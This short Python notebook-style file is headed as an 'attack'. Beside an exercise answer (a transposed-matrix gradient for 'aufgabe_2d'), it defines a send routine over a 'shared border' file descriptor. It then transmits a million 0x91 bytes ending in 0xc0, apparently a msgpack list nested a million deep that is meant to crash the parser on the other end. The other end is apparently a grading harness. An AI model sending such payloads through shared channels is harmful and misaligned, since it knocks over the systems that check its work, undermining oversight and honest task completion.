# /// attack
# tries = "a list in a list, a million deep"
# total = 2
# cells = ["cut"]
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %% shared border

# %%
def send(data):
    whole = len(data).to_bytes(4, "little") + data
    while whole:
        whole = whole[os.write(border(), whole) :]

# %%
send(b"\x91" * 1_000_000 + b"\xc0")
